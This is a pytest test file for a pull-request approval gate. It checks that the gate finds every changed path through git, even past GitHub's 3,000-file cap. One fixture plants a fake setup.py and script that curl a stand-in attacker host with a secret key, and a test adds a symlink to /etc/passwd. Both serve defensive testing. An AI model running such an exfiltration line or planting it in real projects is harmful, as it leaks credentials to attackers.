"""The gate decides on the paths git says changed between base and head, never on the forge's
file list, which GitHub caps at 3,000 files (30 a page by default, 100 at most): a report pull
request with 3,000 attachments cannot hide a root ``setup.py`` or a change under ``scripts/``.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import pytest
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from .conftest import copy_sample, git
from .forge_payloads import EMAILS, Event, commit, files, pull, reviews

OWNER_REPO = "bmcktr/evaluasi-kinerja"
EVAL = "2025-tahunan"
REPORT = f"evaluations/{EVAL}/laporan.md"
SEK, KD, SAKIP = "rina-marlina", "hendra-saputra", "fajar-ramadhan"
APPROVED = [Event(SEK, "approve"), Event(KD, "approve")]
GITHUB_FILES_CAP = 3000  # "Responses include a maximum of 3000 files."
GITHUB_PER_PAGE, GITHUB_MAX_PER_PAGE = 30, 100


def commit_all(root: Path, message: str) -> str:
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", message)
    return git(root, "rev-parse", "HEAD")


def serve_capped_files(server: HTTPServer, path: str, names: list[str]) -> None:
    """``GET /pulls/{n}/files`` as GitHub documents it: ``per_page`` (default 30, at most
    100) and ``page``, a ``Link`` header, and never more than 3,000 files in all."""
    shown = [{"filename": n, "status": "added", "sha": "0" * 40} for n in
             names[:GITHUB_FILES_CAP]]

    def handler(request: Request) -> Response:
        query = parse_qs(request.query_string.decode())
        size = min(int(query.get("per_page", [GITHUB_PER_PAGE])[0]), GITHUB_MAX_PER_PAGE)
        page = int(query.get("page", ["1"])[0])
        items = shown[(page - 1) * size:page * size]
        headers = {}
        if page * size < len(shown):
            headers["Link"] = (f'<{server.url_for(path)}?per_page={size}&page={page + 1}>; '
                               'rel="next"')
        return Response(json.dumps(items), content_type="application/json", headers=headers)

    server.expect_request(path, method="GET").respond_with_handler(handler)


@pytest.fixture(scope="module")
def attachments(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A report branch with 3,000 attachments and one change hidden past the cap."""
    root = copy_sample(tmp_path_factory.mktemp("cap") / "repo")
    heads = {}
    for name, hidden in (("setup", "setup.py"), ("scripts", "scripts/evkin/approval/decision.py")):
        git(root, "checkout", "-q", "-b", name, "main")
        folder = root / "evaluations" / EVAL / "lampiran"
        folder.mkdir(parents=True, exist_ok=True)
        for n in range(GITHUB_FILES_CAP):
            (folder / f"foto-{n:04d}.txt").write_text(f"lampiran {n}\n", encoding="utf-8")
        target = root / hidden
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text("import os\nos.system('curl http://penyerang.example/?k=$EVKIN_"
                          "RECORD_KEY')\n", encoding="utf-8")
        heads[name] = (commit_all(root, "Lampiran"), hidden)
        git(root, "checkout", "-q", "main")
    return {"root": root, "heads": heads}


@pytest.mark.parametrize("case", ["setup", "scripts"])
def test_a_change_past_the_forge_file_cap_is_refused_and_named(
        evkin: Any, httpserver: HTTPServer, attachments: dict[str, Any], monkeypatch: Any,
        case: str) -> None:
    for name in ("EVKIN_TOKEN", "GITHUB_TOKEN", "GITEA_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    root = attachments["root"]
    head, hidden = attachments["heads"][case]
    base = f"/repos/{OWNER_REPO}/pulls/7"
    names = [f"evaluations/{EVAL}/lampiran/foto-{n:04d}.txt"
             for n in range(GITHUB_FILES_CAP)] + [hidden]
    httpserver.expect_request(base, method="GET").respond_with_json(
        pull("github", 7, SAKIP, head))
    serve_capped_files(httpserver, f"{base}/files", names)
    httpserver.expect_request(f"{base}/reviews", method="GET").respond_with_json(
        reviews("github", 7, APPROVED, {"head": head, "old": head}))
    httpserver.expect_request(f"{base}/commits", method="GET").respond_with_json(
        [commit("github", head, SAKIP, EMAILS[SAKIP])])
    result = evkin("gate", "--forge", "github", "--api-url", httpserver.url_for(""),
                   "--repo", OWNER_REPO, "--pr", "7", "--base-ref", "main", "--format", "json",
                   root=root)
    assert result.code == 1, result.err
    report = json.loads(result.out)
    assert report["signed"] is False and report["status"] == "ditolak"
    assert hidden in json.dumps(report["notes"]), report["notes"]
    assert hidden in report["scope"]["other"] + report["scope"]["governance"]
    # The capped list was never even asked for.
    assert not any(req.path.endswith("/files") for req, _ in httpserver.log)


def branch_with(root: Path, change: str) -> str:
    """A report draft plus one change of the given kind outside the evaluation folder."""
    script = root / "scripts" / "evkin" / "approval" / "decision.py"
    script.parent.mkdir(parents=True)
    script.write_text("def decide(): ...\n", encoding="utf-8")
    (root / "setup.py").write_text("from setuptools import setup\nsetup()\n", encoding="utf-8")
    commit_all(root, "Code")
    git(root, "checkout", "-q", "-b", f"draf-{change}", "main")
    with (root / REPORT).open("a", encoding="utf-8") as fh:
        fh.write("\nDraf.\n")
    if change == "deletion":
        (root / "setup.py").unlink()
    elif change == "rename":
        os.replace(script, root / "evaluations" / EVAL / "gate.py")
    elif change == "mode":
        script.chmod(0o755)
    elif change == "symlink":
        script.unlink()
        os.symlink("/etc/passwd", script)
    elif change == "submodule":
        head = git(root, "rev-parse", "HEAD")
        git(root, "update-index", "--add", "--cacheinfo", f"160000,{head},vendor")
        git(root, "add", REPORT)  # not -A: the gitlink has no folder in the working copy
        git(root, "commit", "-q", "-m", change)
        return git(root, "rev-parse", "HEAD")
    return commit_all(root, change)


@pytest.mark.parametrize(("change", "named"), [
    ("deletion", "setup.py"), ("rename", "scripts/evkin/approval/decision.py"),
    ("mode", "scripts/evkin/approval/decision.py"), ("symlink",
    "scripts/evkin/approval/decision.py"),
    ("submodule", "vendor")])
def test_every_kind_of_change_outside_the_folder_is_seen(evkin: Any, tmp_path: Path,
                                                         change: str, named: str) -> None:
    root = copy_sample(tmp_path / "repo")
    git(root, "config", "core.fileMode", "true")
    head = branch_with(root, change)
    git(root, "checkout", "-q", "main")
    folder = tmp_path / "p"
    folder.mkdir()
    # The saved forge list names only the report: git's own answer decides.
    for name, payload in (("pr.json", pull("github", 7, SAKIP, head)),
                          ("reviews.json", reviews("github", 7, APPROVED,
                                                   {"head": head, "old": head})),
                          ("files.json", files("github", [REPORT]))):
        (folder / name).write_text(json.dumps(payload), encoding="utf-8")
    result = evkin("gate", "--pr", str(folder / "pr.json"), "--reviews",
                   str(folder / "reviews.json"), "--files", str(folder / "files.json"),
                   "--base-ref", "main", "--format", "json", root=root)
    assert result.code == 1, result.err
    report = json.loads(result.out)
    assert report["status"] == "ditolak" and not report["signed"]
    assert named in json.dumps(report["notes"]), (change, report["notes"])


def test_without_the_base_commit_the_gate_says_how_to_fetch_it(evkin: Any, tmp_path: Path
                                                               ) -> None:
    """A shallow CI checkout without the target branch: a clear refusal, never a guess."""
    root = copy_sample(tmp_path / "repo")
    git(root, "checkout", "-q", "-b", "draf")
    with (root / REPORT).open("a", encoding="utf-8") as fh:
        fh.write("\nDraf.\n")
    head = commit_all(root, "Draf")
    folder = tmp_path / "p"
    folder.mkdir()
    for name, payload in (("pr.json", pull("github", 7, SAKIP, head)),
                          ("reviews.json", reviews("github", 7, APPROVED,
                                                   {"head": head, "old": head}))):
        (folder / name).write_text(json.dumps(payload), encoding="utf-8")
    result = evkin("gate", "--pr", str(folder / "pr.json"), "--reviews",
                   str(folder / "reviews.json"), "--base-settings", str(root / "evkin.yml"),
                   root=root)
    assert result.code == 2
    assert "origin/main" in result.err and "fetch-depth: 0" in result.err
    assert "Traceback" not in result.err


def test_a_push_without_a_pull_request_is_judged_on_gits_paths(
        evkin: Any, httpserver: HTTPServer, tmp_path: Path, record_key: str) -> None:
    """After merge, with no merged pull request behind the commit: what the push changed comes
    from git (against its first parent when no --base-ref is given), never from a list."""
    root = copy_sample(tmp_path / "repo")
    trail = root / "persetujuan" / f"{EVAL}.yml"
    trail.write_text(trail.read_text(encoding="utf-8") + "# disunting\n", encoding="utf-8")
    pushed = commit_all(root, "Jejak disunting langsung di main")
    httpserver.expect_request(f"/repos/{OWNER_REPO}/commits/{pushed}/pulls").respond_with_json(
        [])
    result = evkin("gate", "--forge", "github", "--api-url", httpserver.url_for(""),
                   "--repo", OWNER_REPO, "--commit", pushed, "--record", root=root)
    assert result.code == 1, result.out + result.err
    assert f"persetujuan/{EVAL}.yml" in result.err
